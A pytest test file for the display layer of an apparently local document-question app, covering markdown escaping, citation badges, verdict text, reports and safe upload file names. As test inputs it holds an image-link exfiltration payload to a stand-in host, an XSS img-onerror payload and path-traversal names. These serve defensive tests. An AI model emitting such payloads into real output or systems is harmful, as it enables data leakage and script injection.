"""The UI's pure formatting: escaping untrusted text, citations, reports, summaries, names."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app import provenance, uploads
from app.conversations import where
from app.ui import present
from ingest.report import FileOutcome, IngestReport
from rag.answer import Answer, AnswerSentence, Citation
from rag.citations import CITATION
from rag.context import Source
from rag.summarize import Summary
from rag.types import DocumentRecord

PASSAGE = "Annual leave. Every employee receives 27 days of annual leave per year. Ask HR."


def _answer(status: str = "answered") -> Answer:
    source = Source(1, [], PASSAGE, "handbook.pdf", "Staff Handbook", 2, 100, 100 + len(PASSAGE))
    start = PASSAGE.index("Every")
    end = PASSAGE.index(" Ask")
    citation = Citation(
        1, "handbook.pdf", "Staff Handbook", 2, "abc", PASSAGE[start:end], 100 + start, 100 + end
    )
    return Answer(
        question="How many days?",
        query="How many days?",
        text="Every employee receives 27 days. [1]",
        status=status,  # type: ignore[arg-type]
        citations=[citation] if status == "answered" else [],
        evidence=[source],
    )


def _bare(token: str, text: str) -> bool:
    """Whether ``token`` occurs in ``text`` with its first character not escaped."""
    return re.search(r"(?<!\\)" + re.escape(token), text) is not None


def test_marker_pattern_matches_the_citation_parser() -> None:
    assert present._MARKER.pattern == CITATION.pattern


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/leak?q=secret)",
        "[click](https://evil.example)",
        "<img src=x onerror=alert(1)>",
        "visit www.evil.example or https://evil.example/a",
        ":red[alarm] $x^2$ **bold** `code`",
    ],
)
def test_escape_leaves_no_markdown_construct(hostile: str) -> None:
    escaped = present.escape(hostile)

    for token in ("![", "](", "<img", "://", ".example", ":red[", "$x", "**", "`c"):
        assert not _bare(token, escaped), token
    assert re.sub(r"\\(.)", r"\1", escaped) == hostile


@given(st.text())
def test_escape_is_reversible_and_leaves_no_bare_punctuation(text: str) -> None:
    escaped = present.escape(text)

    assert re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", escaped).replace("  \n", "\n") == text.replace(
        "\r", ""
    )
    assert not re.search(r"(?<!\\)[\[\]()<>!:]", re.sub(r"\\\\", "", escaped))


def test_answer_markers_become_badges_and_the_rest_is_escaped() -> None:
    shown = present.answer_markdown("It is 27 days [1]. See [link](http://x.example) [2, 3]")

    assert ":blue-badge[1]" in shown and ":blue-badge[2] :blue-badge[3]" in shown
    assert "](" not in shown and "\\[link\\]" in shown


def test_cited_passage_highlights_the_quote_in_its_source() -> None:
    answer = _answer()

    shown = present.cited_passage(answer, answer.citations[0])

    assert ":orange-background[Every employee receives 27 days of annual leave per year\\.]" in (
        shown
    )
    assert shown.startswith("Annual leave\\.") and shown.endswith("Ask HR\\.")


def test_highlight_trims_long_context_with_ellipses() -> None:
    text = "a" * 2000 + "QUOTE" + "b" * 2000

    shown = present.highlighted(text, 2000, 2005, context=10)

    assert shown == "… " + "a" * 10 + ":orange-background[QUOTE]" + "b" * 10 + " …"


def test_quote_outside_the_evidence_is_shown_alone() -> None:
    answer = _answer()
    answer.evidence = []

    assert present.cited_passage(answer, answer.citations[0]).startswith(":orange-background[")


@pytest.mark.parametrize(
    ("status", "tone"), [("answered", "neutral"), ("unverified", "warning"), ("not_found", "info")]
)
def test_verdict_distinguishes_the_three_states(status: str, tone: str) -> None:
    assert present.verdict(_answer(status)).tone == tone


def test_a_quote_says_where_it_is_from_never_that_it_is_verified() -> None:
    answer = _answer()
    answer.sentences = [AnswerSentence("Every employee receives 27 days.", answer.citations[0])]

    assert present.verdict(answer) == present.Verdict(
        "neutral", "Quoted from handbook.pdf, page 2."
    )
    answer.lead = "Every employee gets 27 days [1]."
    answer.made_by = "model"  # the model wrote the lead; the unit is still a quote
    assert present.lead_markdown(answer) == "Every employee gets 27 days :blue-badge[1]\\."
    assert present.verdict(answer).message == (
        "Quoted from handbook.pdf, page 2. The model's answer above is verified against the quote."
    )
    answer.lead, answer.made_by = "", "quotes"
    answer.fallback = "the model failed: Cannot reach Ollama"
    assert present.verdict(answer) == present.Verdict(
        "info",
        "Quoted from handbook.pdf, page 2. "
        "The model's answer is not shown: the model failed: Cannot reach Ollama.",
    )


def test_a_models_own_sentences_are_verified_against_their_quotes() -> None:
    answer = _answer()
    answer.made_by = "model"

    assert present.verdict(answer) == present.Verdict(
        "neutral", "Each sentence verified against the quote it cites: handbook.pdf, page 2."
    )


def test_several_quotes_are_listed_compactly_by_document_and_page() -> None:
    def cited(source: str, page: int) -> Citation:
        return Citation(1, source, "", page, "abc", "q", 0, 1)

    assert provenance.pages([3, 5, 4, 9, 3]) == "pages 3-5 and 9"
    assert provenance.pages([7]) == "page 7" and provenance.pages([0]) == ""
    several = [
        cited("hr/ward-policy.pdf", 3),
        cited("rota.docx", 0),
        cited("hr/ward-policy.pdf", 5),
    ]
    assert provenance.places(several) == "ward-policy.pdf, pages 3 and 5; rota.docx"
    many = [cited(f"d{n}.pdf", 1) for n in range(5)]
    assert provenance.places(many).endswith("d2.pdf, page 1; and 2 other documents")


def test_a_unit_is_quoted_line_by_line_with_its_structure() -> None:
    unit = "The priorities are\\:\n\n1. Safety\n2. Care\n\n```\n$ run <name>\n```"

    shown = present.quote_markdown(unit)

    assert shown.splitlines() == [
        "> The priorities are\\:",
        ">",
        "> 1. Safety",
        "> 2. Care",
        ">",
        "> ```",
        "> $ run <name>",  # code: shown as written, fetches nothing
        "> ```",
    ]


@pytest.mark.parametrize(
    "hostile",
    [
        "See [the form](http://evil.example) *now*.",
        "![x](http://evil.example/leak?q=secret)",
        "<img src=x onerror=alert(1)> and \\\\<b>",
        "visit www.evil.example or https://evil.example/a",
        ":red[alarm] $x^2$",
        "[ref]: http://evil.example",
        "``` not`a fence\n<img src=x>",
    ],
)
def test_a_unit_from_elsewhere_still_fetches_nothing(hostile: str) -> None:
    shown = present.quote_markdown(hostile)

    for token in ("![", "](", "<img", "<b", "://", "www.", ":red[", "$x", "]:"):
        assert not _bare(token, re.sub(r"\\\\", "", shown)), (token, shown)


def test_safe_markdown_leaves_safe_markdown_as_it_is() -> None:
    safe = "Run `https://example.org/a?b=<c>` then \\<name\\>\\_x \\[1\\]\n- item\n| a | b |"

    assert present.safe_markdown(safe) == safe


def test_citation_label_and_where() -> None:
    answer = _answer()

    assert present.citation_label(answer.citations[0]) == "[1] Staff Handbook, p. 2"
    assert where("Staff Handbook", "handbook.pdf", 2) == ("Staff Handbook (handbook.pdf), p. 2")
    assert where("", "notes.md", 0) == "notes.md"


def test_report_rows_and_headline_match_the_cli_outcomes() -> None:
    report = IngestReport(
        collection="docs",
        files=[
            FileOutcome("/u/a.pdf", "a.pdf", "added", chunks=3, pages=2),
            FileOutcome("/u/b.pdf", "b.pdf", "failed", reason="not a PDF"),
        ],
    )

    rows = present.report_rows(report)
    tone, headline = present.report_headline(report)

    assert rows[1] == {"file": "b.pdf", "outcome": "failed", "chunks": 0, "pages": 0,
                       "reason": "not a PDF"}  # fmt: skip
    assert tone == "warning"
    assert headline == "2 files into docs: 1 added, 1 failed."
    report.pruned = ["old.pdf"]
    assert present.report_headline(report)[1].endswith("1 failed; 1 removed (file gone).")


def test_document_rows_filter_by_file_or_title() -> None:
    records = [
        DocumentRecord("k1", "/r", "b.pdf", title="Budget", pages=3, chunks=4,
                       ingested_at="2026-01-02T03:04:05+00:00"),
        DocumentRecord("k2", "/r", "a.txt", title="Handbook", chunks=1),
    ]  # fmt: skip

    assert [r["file"] for r in present.document_rows(records)] == ["a.txt", "b.pdf"]
    assert [r["file"] for r in present.document_rows(records, "BUDG")] == ["b.pdf"]
    assert present.document_rows(records, "b.pdf")[0]["ingested"] == "2026-01-02 03:04:05"


def test_summary_markdown_carries_pages_and_a_safe_file_name() -> None:
    summary = Summary("d", "reports/q3 plan.pdf", "Q3 Plan", "- Goals (p. 1)", "short",
                      focus="costs", parts=2, outline_parts=7,
                      part_pages=["p. 1", "pp. 2-3"])  # fmt: skip

    text = present.summary_markdown(summary)

    assert text.startswith("# Summary of Q3 Plan\n")
    assert "short, focus: costs" in text and "- Goals (p. 1)" in text
    assert "2 of 7 parts of the document shown; every point is quoted" in text
    assert present.summary_file_name(summary) == "q3 plan-summary.md"


def test_downloaded_markdown_has_no_live_links() -> None:
    text = present.neutralize_links("![a](http://x.example/i.png) <b> www.x.example")

    assert "<b>" not in text
    assert not any(_bare(token, text) for token in ("![", "](", "://", "www."))


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("Q3 report (final).pdf", "Q3 report _final_.pdf"),
        ("...", ""),
        (".hidden.txt", "hidden.txt"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_safe_file_name(name: str, safe: str) -> None:
    assert uploads.safe_file_name(name) == safe


def test_upload_target_stays_in_its_folder(tmp_path: Path) -> None:
    assert uploads.upload_target(tmp_path, "../a.pdf") == (tmp_path / "a.pdf").resolve()
    with pytest.raises(ValueError):
        uploads.upload_target(tmp_path, "../..")
